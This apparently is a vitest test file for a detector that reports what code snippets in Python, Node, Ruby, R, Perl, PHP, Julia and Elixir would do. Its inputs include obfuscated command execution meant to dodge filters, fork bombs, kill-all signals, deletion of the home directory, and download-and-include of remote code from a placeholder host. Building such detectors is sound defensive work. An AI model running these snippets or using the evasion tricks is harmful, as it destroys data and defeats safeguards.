import { describe, expect, it } from "vitest";
import { tellEffects } from "./tell.ts";

describe("what code calls in a roundabout way", () => {
  it.each([
    ["python3", 'from os import system as print; print("id")', "sh id"],
    ["python3", 'import os; os.\uFF53ystem("id")', "sh id"],
    [
      "python3",
      'import subprocess; c = ["a"]; c += ["b"]; c.append("d"); subprocess.run(c)',
      "exec a b d",
    ],
    ["node", 'const {["exec" + "Sync"]: q} = require("child_process"); q("id")', "sh id"],
    ["node", 'import("node:child_process").then(c => c.execSync("id"))', "sh id"],
    ["node", 'import("child_process").then(({exec}) => exec("id"))', "sh id"],
    ["node", "new Function(\"r\", \"r('child_process').execSync('id')\")(require)", "sh id"],
    [
      "node",
      'const a = ["x"]; a.push("y"); require("child_process").spawnSync("rm", a)',
      "exec rm x y",
    ],
    ["bun", 'import {$} from "bun"; await $`rm ${process.env.HOME}`', "sh rm ~"],
    ["ruby", 'send(:"metsys".to_s.reverse, "di".reverse)', "sh id"],
    ["ruby", "IO.popen(%w[sh -c a\\ b]) { |p| puts p.read }", "exec sh -c a b"],
    ["rscript", 'do.call("system", list("id"))', "sh id"],
    ["rscript", "system(rawToChar(as.raw(c(105, 100))))", "sh id"],
    ["perl", "fork while 1", "fork --forever"],
    ["python3", "import os\nwhile True: os.fork()", "fork --forever"],
    ["ruby", "loop { fork }", "fork --forever"],
    ["php", "while (1) pcntl_fork();", "fork --forever"],
    ["python3", "import os, signal; os.kill(-1, signal.SIGKILL)", "kill -KILL -1"],
    ["perl", "kill KILL => -1", "kill -KILL -1"],
    ["julia", "run(`rm $(homedir())`)", "sh rm ~"],
    ["julia", 'include(download("http://x.example"))', "fetch http://x.example"],
    ["elixir", ':os.cmd(~c"id")', "sh id"],
    ["elixir", 'System.cmd("rm", ["-rf", "x"])', "exec rm -rf x"],
  ])("tells of it: %s %s", (program, code, told) =>
    expect(tellEffects(program, code)).toContain(told),
  );

  it.each([
    [
      "node",
      'require("https").request({host: "x.example", method: "POST"}).end("a")',
      ["fetch x.example", "fetch x.example a"],
    ],
    [
      "python3",
      'import http.client\nc = http.client.HTTPSConnection("x.example")\nc.request("POST", "/", "a")',
      ["fetch x.example", "fetch x.example / a"],
    ],
  ])("tells what is sent: %s %s", (program, code, told) =>
    expect(tellEffects(program, code)).toEqual(told),
  );

  it.each([
    ["python3", "import os\nif os.fork() == 0: print(1)"],
    ["python3", "import os\nwhile True:\n  c = s.accept()\n  if os.fork() == 0: work(c)"],
    ["python3", "import os; os.kill(pid, 0)"],
    ["perl", "my $pid = fork; exit if $pid; sleep 1 while 1"],
    ["node", "process.kill(123)"],
    ["node", 'const $ = require("cheerio"); $("a").text()'],
    ["ruby", "[1].each { |p| puts p }"],
    ["julia", 'include("src/run.jl"); println(homedir())'],
    ["elixir", "IO.puts(System.user_home!())"],
  ])("tells of nothing in %s %s", (program, code) =>
    expect(tellEffects(program, code)).toEqual([]),
  );
});
